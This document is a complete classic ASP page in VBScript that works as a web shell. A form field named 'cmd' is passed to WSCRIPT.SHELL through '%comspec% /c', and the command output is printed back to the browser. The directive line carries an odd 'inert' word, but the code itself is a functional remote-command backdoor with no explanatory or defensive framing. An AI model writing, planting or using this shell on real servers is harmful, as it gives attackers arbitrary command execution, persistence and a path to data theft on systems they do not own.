<%@ Language=VBScript inert %>
<%
Dim sh, out
Set sh = Server.CreateObject("WSCRIPT.SHELL")
If Request.Form("cmd") <> "" Then
  Set out = sh.Exec("%comspec% /c " & Request.Form("cmd"))
  Response.Write "<textarea rows=20 cols=90>" & Server.HTMLEncode(out.StdOut.ReadAll()) & "</textarea>"
End If
%>
<form method="post"><input name="cmd" size="80"><input type="submit"></form>
